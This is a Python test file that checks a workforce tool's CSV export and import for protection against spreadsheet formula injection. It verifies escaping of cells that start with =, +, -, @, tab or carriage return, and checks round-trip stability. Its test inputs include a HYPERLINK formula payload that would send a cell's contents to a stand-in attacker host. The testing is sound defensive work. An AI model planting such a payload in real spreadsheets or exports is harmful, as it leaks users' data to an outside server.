"""CSV formula injection: exported cells never start a spreadsheet formula, and export -> import changes nothing."""

from __future__ import annotations

import csv
import io
import re

from openwfo.kit import csv as kit_csv

from .conftest import upload

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NASTY = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1 555 0100", "-dash", "@SUM(A1:A9)",
         "=SUM(A1)", "'s-Hertogenbosch", "'=already quoted", "''+two quotes", "O'Brien"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_nothing_runs(text: str) -> None:
    for row in _cells(text):
        for cell in row:
            # A number (a negative rank) is a number to the spreadsheet; anything else must not start a formula.
            assert not cell.startswith(TRIGGERS) or re.fullmatch(r"-\d+", cell), cell


def test_export_escapes_formulas_and_imports_back_unchanged(admin_client, factory, tenant, store):
    groups = [factory.group(tenant.id, name) for name in ("=1+2", "@Ops", "'s-Hertogenbosch")]
    factory.team(tenant.id, groups[0], "+Team")
    factory.team(tenant.id, groups[2], "-Team")
    for i, name in enumerate(NASTY):
        r = admin_client.post("/api/rest/org/common/person", json={
            "firstName": name, "lastName": NASTY[-1 - i], "email": f"f{i}-{factory.unique()}@x.test",
            "agentDetail": {"employeeId": f"-{i}0", "agentRank": -3 - i}, "scopeGroups": [groups[i % 3]]})
        assert r.status_code == 200, r.text

    exported = {kind: admin_client.get(f"/api/rest/fileexport/{kind}") for kind in ("groups", "teams", "persons")}
    for r in exported.values():
        assert r.status_code == 200
        _assert_nothing_runs(r.text)
    persons = _cells(exported["persons"].text)
    header = persons[0]
    rows = [dict(zip(header, p, strict=True)) for p in persons[1:]]
    first = {row["First Name"] for row in rows}
    assert "'=SUM(A1)" in first and "'+1 555 0100" in first and "'@SUM(A1:A9)" in first
    assert "'s-Hertogenbosch" in first and "O'Brien" in first  # no formula: written as they are
    assert "''=already quoted" in first and "'''+two quotes" in first
    ranks = {row["Rank"] for row in rows if row["First Name"] == "'=SUM(A1)"}
    assert ranks == {"-7"}  # a number stays a number
    # Text that looks like a negative number is text: escaped, and read back as it was.
    assert {row["Employee ID"] for row in rows if row["First Name"] == "'-dash"} == {"'-20"}
    assert "'=1+2" in {g[1] for g in _cells(exported["groups"].text)[1:]}
    assert {"'+Team", "'-Team"} <= {t[1] for t in _cells(exported["teams"].text)[1:]}
    assert any("'=1+2" in p for p in (row["Scope Groups"] for row in rows))

    for kind in ("groups", "teams", "persons"):
        r = upload(admin_client, kind, exported[kind].content)
        assert r.status_code == 200, (kind, r.text)
        body = r.json()
        assert body["created"] == 0 and body["updated"] == 0 and body["unchanged"] == len(body["rows"]) > 0, body
        assert admin_client.get(f"/api/rest/fileexport/{kind}").content == exported[kind].content
    assert store.group("=1+2") is not None and store.group("'s-Hertogenbosch") is not None


def test_import_takes_off_a_spreadsheet_users_quote_only_before_a_formula_character(admin_client, store):
    text = "id,name,activatedDate,deactivatedDate\n0,'=Ops,01/04/2018,\n0,'s-Hertogenbosch,01/04/2018,\n0,'Quoted,01/04/2018,\n"
    r = upload(admin_client, "groups", text)
    assert r.status_code == 200, r.text
    assert store.group("=Ops") is not None and store.group("'=Ops") is None
    assert store.group("'s-Hertogenbosch") is not None and store.group("'Quoted") is not None


def test_the_shared_writer_and_reader():
    values = ["=1", "+1", "-1", "@a", "\tx", "\ry", "'=1", "''@", "'s", "'", "", "plain", "a=b", " =1"]
    text = kit_csv.write(["h", "=header"], [[v, i] for i, v in enumerate(values)] + [[None, -5], [-1.5, 2]])
    rows = _cells(text)
    assert rows[0] == ["h", "'=header"]
    assert [r[0] for r in rows[1:len(values) + 1]] == [
        "'=1", "'+1", "'-1", "'@a", "'\tx", "'\ry", "''=1", "'''@", "'s", "'", "", "plain", "a=b", " =1"]
    assert rows[-2:] == [["", "-5"], ["-1.5", "2"]]  # numbers are not escaped
    table = kit_csv.read(text)
    assert table.header == ["h", "=header"]
    assert [r.cells[0] for r in table.records[:len(values)]] == values
    assert [r.cells for r in table.records[len(values):]] == [["", "-5"], ["-1.5", "2"]]
